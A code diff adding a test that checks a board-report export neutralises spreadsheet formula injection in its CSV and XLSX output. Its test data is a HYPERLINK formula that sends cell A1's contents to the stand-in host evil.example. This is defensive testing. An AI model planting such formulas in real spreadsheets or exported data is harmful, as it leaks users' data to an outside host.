@@ -73,3 +73,22 @@ def test_an_agency_contributor_sees_only_their_own_agencys_actions_in_the_agency
 def test_reviewers_and_contributors_do_not_get_the_board_report(client_for, reviewer_helen, police_claire, plan):
     assert client_for(reviewer_helen).get(reverse("actions:board_report")).status_code == 403
     assert client_for(police_claire).get(reverse("actions:board_report")).status_code == 403
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full record")'
+
+
+def test_manager_rob_downloads_exports_where_a_formula_typed_into_an_action_is_plain_text(
+        client_for, manager_rob, make_action):
+    make_action(description=HOSTILE, due_date=dt.date(2027, 3, 31))
+    client = client_for(manager_rob)
+    header, row = list(csv.reader(io.StringIO(client.get(reverse("actions:board_report_export", args=["csv"]))
+                                              .content.decode("utf-8-sig"))))
+    columns = dict(zip(header, row, strict=True))
+    assert columns["Description"] == "'" + HOSTILE
+    assert columns["Due date"] == "2027-03-31" and columns["Named owner"] == ""  # empty, not a lone apostrophe
+    sheet = load_workbook(io.BytesIO(client.get(reverse("actions:board_report_export", args=["xlsx"])).content))["Actions"]
+    cells = {head.value: cell for head, cell in zip(sheet[1], sheet[2], strict=True)}
+    assert cells["Description"].value == "'" + HOSTILE and cells["Description"].data_type == "s"
+    assert cells["Due date"].value == dt.datetime(2027, 3, 31) and cells["Due date"].is_date
+    assert cells["Named owner"].value is None and cells["Evidence items"].value == 0
